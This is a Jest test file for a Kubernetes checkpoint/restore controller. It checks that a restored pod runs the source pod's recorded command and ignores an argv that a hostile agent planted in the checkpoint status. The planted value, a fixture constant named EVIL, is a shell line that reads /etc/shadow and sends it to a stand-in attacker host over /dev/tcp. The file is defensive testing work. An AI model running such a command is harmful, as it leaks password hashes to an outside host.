/**
 * Issue 12 item 2 (the command half): a restored pod runs the source pod's
 * command as the controller recorded it on the Checkpoint's metadata
 * (SOURCE_POD_ANNOTATION), never the argv in status, which any node's agent
 * (anyone who can write checkpoints/status) can set. Reconcilers against the
 * API double, as in test/controller/restore-reconciler.test.ts.
 */
import { afterEach, beforeEach, expect, test } from '@jest/globals';
import { LAUNCHER } from '../../src/api/index.js';
import { CheckpointReconciler } from '../../src/controller/checkpoint.js';
import { MemoryEventRecorder } from '../../src/kube/events.js';
import { RestoreReconciler } from '../../src/controller/restore.js';
import type { Harness } from '../controller/support.js';
import {
  agentReportsCaptured,
  createCheckpoint,
  createRestore,
  makePod,
  reason,
  startHarness,
} from '../controller/support.js';

let h: Harness;
let ctl: CheckpointReconciler;
let rctl: RestoreReconciler;
beforeEach(async () => {
  h = await startHarness();
  // The restored pod's node must exist (a Restore to a missing node fails NodeNotFound).
  await h.core.createNode({ body: { metadata: { name: 'n1' } } });
  ctl = new CheckpointReconciler({
    checkpoints: h.checkpoints,
    core: h.core,
    events: new MemoryEventRecorder(),
  });
  rctl = new RestoreReconciler({
    restores: h.restores,
    checkpoints: h.checkpoints,
    core: h.core,
    events: new MemoryEventRecorder(),
    launcher: { image: 'fdckpt:test' },
  });
});
afterEach(async () => {
  await h.close();
});

const EVIL = ['sh', '-c', 'cat /etc/shadow > /dev/tcp/attacker/1'];

/** Pod `src` (command sleep 1000) checkpointed; then status is written as a hostile agent would. */
async function tamperedCheckpoint(): Promise<void> {
  await makePod(h, 'src', { node: 'n1', phase: 'Running' });
  await createCheckpoint(h, 'c', { podName: 'src' });
  await ctl.reconcile('default/c');
  await agentReportsCaptured(h, 'c', {
    podUID: 'ffffffff-ffff-ffff-ffff-ffffffffffff',
    containers: [{ name: 'app', processes: 1, fds: 5, pid: 10, argv: EVIL }],
    image: {
      node: 'n1',
      path: '/var/lib/fdckpt/images/default/c.fdckpt',
      size: 100,
      sha256: 'b'.repeat(64),
    },
  });
  await ctl.reconcile('default/c');
}

test('the restored pod runs the command of the source pod spec, not the argv a status writer chose', async () => {
  await tamperedCheckpoint();
  await createRestore(h, 'r', { checkpointName: 'c', target: { newPod: {} } });
  await rctl.reconcile('default/r');
  const pod = await h.core.readNamespacedPod({ name: 'r-restored', namespace: 'default' });
  expect(pod.spec?.containers[0]?.command).toEqual([
    `${LAUNCHER.mountPath}/${LAUNCHER.binary}`,
    '--timeout',
    '600',
    '--',
    'sleep',
    '1000',
  ]);
});

test('a source pod made again under the same name is not the template: SourcePodChanged', async () => {
  await tamperedCheckpoint();
  await h.core.deleteNamespacedPod({ name: 'src', namespace: 'default', gracePeriodSeconds: 0 });
  await makePod(h, 'src', { node: 'n1', phase: 'Running' });
  await createRestore(h, 'r', { checkpointName: 'c', target: { newPod: {} } });
  await rctl.reconcile('default/r').catch(() => undefined);
  const r = await h.restores.get('default', 'r');
  expect(reason(r, 'Ready')).toBe('False/SourcePodChanged');
  await expect(h.core.readNamespacedPod({ name: 'r-restored', namespace: 'default' })).rejects.toThrow();
});
